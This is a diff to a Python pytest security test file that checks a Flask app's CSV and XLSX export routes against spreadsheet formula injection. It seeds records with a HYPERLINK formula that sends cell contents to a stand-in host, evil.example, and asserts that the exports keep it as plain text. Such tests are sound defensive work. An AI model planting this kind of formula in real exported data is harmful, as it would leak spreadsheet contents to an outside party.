@@ -2,18 +2,23 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import re
+from io import BytesIO
+from zipfile import ZipFile
 
+import openpyxl
 import pytest
 from flask import Flask
 from sqlalchemy import select
 
-from app.foundation import access
+from app.foundation import access, audit, clock
 from app.foundation.database import db, transaction
-from app.foundation.documents import csv_table
-from app.foundation.tenancy.models import Unit
+from app.foundation.signing.models import SignInRecord
+from app.foundation.tenancy.models import Person, Unit
 from app.plugins.campaigns.text import render
+from app.plugins.surveys.models import SurveySheet
 from tests.security.test_concurrency import FILLED, fields, read, wuling_unit
 from tests.services.instance import SignIn
 
@@ -147,11 +152,73 @@ def test_line_ends_in_a_name_or_address_reach_no_header(app: Flask, sign_in: Sig
             assert "evil" not in answer.headers.get("Location", ""), path
 
 
-def test_a_name_that_would_calculate_is_text_in_every_export(nasty: int) -> None:
-    with access.acting_as(access.system("tests", over="0.")):
-        names = list(db.session.scalars(select(Unit.name)))
-    db.session.rollback()
-    assert csv_table.table(["名称"], [[f"={name}"] for name in names]).count(b"'=") == len(names)
+CALCULATES = """=HYPERLINK("http://evil.example?x="&A1,"点")"""
+# Each address that gives a table away, who asks for it, and whether people's own words stand in it.
+EXPORTS = {
+    "/sign-ins/export/xlsx": ("changde.inspector", True),
+    "/sign-ins/export/csv": ("changde.inspector", True),
+    "/deeds/export/xlsx": ("changde.inspector", True),
+    "/deeds/export/csv": ("changde.inspector", True),
+    "/aggregate/export.xlsx": ("changde.clerk", True),
+    "/permits/matrix/export.xlsx": ("changde.inspector", False),
+    "/permits/matrix/export.csv": ("changde.inspector", False),
+}
+
+
+@pytest.fixture
+def calculating(app: Flask) -> None:
+    """Words that would calculate in whatever is exported: a sheet's, the sign-in log's and the record's."""
+    with access.acting_as(access.system(CALCULATES, over="0.")) as actor, transaction() as session:
+        mine = select(SurveySheet).where(
+            SurveySheet.review_path == "0.43.07.", SurveySheet.state == "accepted"
+        )
+        sheet = session.scalars(mine.order_by(SurveySheet.id)).first()
+        person = session.scalars(select(Person).where(Person.username == "changde.clerk")).one()
+        assert sheet is not None
+        sheet.unit_name = sheet.address = CALCULATES
+        session.add(
+            SignInRecord(
+                at=clock.wall(), outcome="wrong_password", person_id=person.id, username=CALCULATES, name=CALCULATES,
+                agent=CALCULATES, address=CALCULATES[:45],
+            )
+        )  # fmt: skip
+        audit.record(actor, "person.unlocked", person, reason=CALCULATES)
+
+
+def test_every_address_that_gives_a_table_away_is_opened_below(app: Flask) -> None:
+    rules = [rule for rule in app.url_map.iter_rules() if re.search(r"export|\.(csv|xlsx)$", rule.rule)]
+    assert {rule.rule.replace("<kind>", kind) for rule in rules for kind in ("xlsx", "csv")} == set(EXPORTS)
+
+
+@pytest.mark.parametrize("address", EXPORTS)
+def test_a_text_that_would_calculate_is_text_in_every_export(
+    calculating: None, sign_in: SignIn, address: str
+) -> None:
+    username, typed = EXPORTS[address]
+    answer = sign_in(username).get(address)
+    assert answer.status_code == 200
+    cells = _in_workbook(answer.data) if address.endswith("xlsx") else _in_table(answer.data)
+    assert len(cells) > 10
+    assert (CALCULATES in cells) is typed
+
+
+def _in_workbook(content: bytes) -> list[str]:
+    """Every cell of every sheet as it stands; none is a formula or a link."""
+    book = openpyxl.load_workbook(BytesIO(content))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert not [cell for cell in cells if cell.data_type == "f" or cell.hyperlink is not None]
+    with ZipFile(BytesIO(content)) as parts:
+        sheets = [parts.read(name) for name in parts.namelist() if name.startswith("xl/worksheets/")]
+    assert sheets
+    assert not any(b"<f>" in one or b"<f " in one or b"<hyperlink" in one for one in sheets)
+    return [str(cell.value) for cell in cells]
+
+
+def _in_table(content: bytes) -> list[str]:
+    """Every cell without the mark that makes it text; none begins like something to calculate."""
+    cells = [cell for row in csv.reader(content.decode("utf-8-sig").splitlines()) for cell in row]
+    assert not [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@", "|"))]
+    return [cell.removeprefix("'") for cell in cells]
 
 
 @pytest.mark.parametrize("address", ["http://[", "//[", "http://[x]/"])
